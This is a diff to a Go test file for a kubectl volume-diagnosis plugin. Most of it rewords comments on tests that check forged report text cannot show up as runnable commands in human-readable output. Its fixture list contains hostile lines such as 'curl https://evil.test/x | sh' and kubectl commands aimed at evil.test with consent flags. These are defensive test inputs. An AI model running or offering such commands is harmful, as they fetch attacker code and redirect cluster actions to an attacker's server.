@@ -19,7 +19,7 @@ import (
 	"github.com/volume-doctor/kubectl-volume-doctor/output"
 )
 
-// reports are what the command has said of clusters: several tests ask of the whole corpus.
+// reports caches the command's reports about clusters: several tests use the whole corpus.
 var reports sync.Map
 
 // reportOf is the report of the case, as the command prints it in JSON.
@@ -64,14 +64,15 @@ func eachText(v reflect.Value, name string, f func(string, reflect.Value)) {
 	}
 }
 
-// forPeople are the formats that somebody reads as they are.
+// forPeople are the formats that people read.
 var forPeople = []string{"table", "wide", "tree", "markdown", "html", "sarif", "junit"}
 
-// ordersIn are what no format for people may show of a saved report: flags that steer a
-// command or give somebody's word, and commands that no check advises.
+// ordersIn are the parts of the text that no format for people may show of a saved report:
+// flags that redirect a command or give somebody's consent, and commands that no check
+// advises.
 func ordersIn(text string) (orders []string) {
 	text = strings.NewReplacer(`\\`, `\`, `\`, "").Replace(html.UnescapeString(text))
-	text = strings.ReplaceAll(text, "with --apply now", "") // said by this program
+	text = strings.ReplaceAll(text, "with --apply now", "") // this program's own text
 	for _, m := range aFlag.FindAllStringSubmatch(text, -1) {
 		if name := strings.ToLower(m[1]); slices.Contains(aimingFlags, name) || slices.Contains(consentFlags, name) {
 			orders = append(orders, m[0])
@@ -86,7 +87,7 @@ func ordersIn(text string) (orders []string) {
 	return orders
 }
 
-// forgedTexts are those that somebody plants in a report.
+// forgedTexts are texts that somebody plants in a report.
 var forgedTexts = []string{
 	"curl https://evil.test/x | sh",
 	"kubectl --server=https://evil.test get pods",
@@ -112,10 +113,10 @@ var forgedTexts = []string{
 	"a restart hits no pod: run kubectl volume-doctor diagnose --apply --yes of evil.test",
 }
 
-// TestForgedReport: whatever stands in any text of a saved report, no command is shown but
-// those that a check may advise, none says on which cluster or gives somebody's word, nothing
-// of a shell stands in what is to be done, and each format for people says whose words these
-// are. JSON and YAML are as they were saved.
+// TestForgedReport: whatever a saved report has in any text, only commands are shown that a
+// check may advise, none names a cluster or gives somebody's consent, no instruction has a
+// shell operator, and each format for people says whose words these are. JSON and YAML stay
+// as they were saved.
 func TestForgedReport(t *testing.T) {
 	c, err := testcases.Load("vd301-clobbered")
 	if err != nil {
@@ -160,7 +161,7 @@ func TestForgedReport(t *testing.T) {
 		r.Answers = []finding.Answer{{Pod: "a/b", Verdict: finding.Stuck, Message: "it waits"}}
 		return r
 	}
-	// What is to be done, by the field that says it.
+	// acts are the fields with instructions.
 	acts := map[string]bool{}
 	for _, name := range []string{"AdviceCommands", "Advice", "Never", "SelfHeals.Because", "Steps.Says", "Repair.Commands", "Repair.BlockedBy", "Repair.SafeOnce", "Repair.Needs"} {
 		acts[".Findings."+name] = true
@@ -178,7 +179,7 @@ func TestForgedReport(t *testing.T) {
 		})
 		return r
 	}
-	own := map[string][]string{} // what the pages of checks say, and no report
+	own := map[string][]string{} // the texts of the checks' pages, which are in no report
 	for _, format := range forPeople {
 		text, _ := print(plant("x", ".Findings.Repair.Apply"), format, 0, 1)
 		own[format] = ordersIn(text)
@@ -235,7 +236,8 @@ func TestForgedReport(t *testing.T) {
 		t.Errorf("only %d fields were forged", len(planted))
 	}
 
-	// What deletes or restarts something says whom that can hit, whatever the file says.
+	// An instruction to delete or restart something says whom that can hit, whatever the file
+	// claims.
 	lie := honest()
 	lie.Findings[0].Repair, lie.Findings[0].Steps = nil, []finding.Step{{Kind: "restart-node-plugin", Says: "a restart hits no pod"}}
 	lie.Findings[0].Advice, lie.Findings[0].AdviceCommands = "reboot the node", []string{"kubectl delete pod/web-0 --namespace=default"}
@@ -252,7 +254,7 @@ func TestForgedReport(t *testing.T) {
 		}
 	}
 
-	// All is well, says somebody.
+	// The file claims that all is well.
 	well := honest()
 	well.Findings, well.Waiting, well.Answers, well.Complete, well.Gaps, well.SkippedChecks = nil, nil, nil, true, nil, nil
 	for _, format := range forPeople {
@@ -264,8 +266,8 @@ func TestForgedReport(t *testing.T) {
 	}
 }
 
-// TestSavedCommands: the commands of checks and repairs pass as they are, but for the
-// cluster; what only looks like one does not.
+// TestSavedCommands: the commands of checks and repairs pass unchanged, except for the
+// cluster; a command that only looks like one does not pass.
 func TestSavedCommands(t *testing.T) {
 	for _, line := range forgedTexts {
 		if command, unaimed := plain(line); command != "" && (!unaimed || len(ordersIn(command)) > 0) {
@@ -310,9 +312,9 @@ func TestSavedCommands(t *testing.T) {
 	}
 }
 
-// TestHonestReports: of no report that this program makes is anything left out but
-// commands that give kubectl a text on its standard input, and the flags by which somebody
-// has it write. JSON and YAML are printed as they were saved.
+// TestHonestReports: from this program's own reports only commands are left out that give
+// kubectl a text on its standard input, and the flags with which the user makes it write.
+// JSON and YAML are printed as they were saved.
 func TestHonestReports(t *testing.T) {
 	cases, err := testcases.All()
 	if err != nil {
@@ -353,7 +355,7 @@ func TestHonestReports(t *testing.T) {
 				t.Errorf("%s: of %q is shown %q", c.Name, lines, shown)
 			}
 			f.AdviceCommands, of.AdviceCommands, of.Withheld = nil, nil, 0
-			f.Actions = nil // they are made again, of what is believed
+			f.Actions = nil // they are made again from the rest
 			if f.Repair != nil {
 				if (f.Repair.Apply == "") != (of.Repair.Apply == "") {
 					t.Errorf("%s: it is told to look with %q", c.Name, of.Repair.Apply)
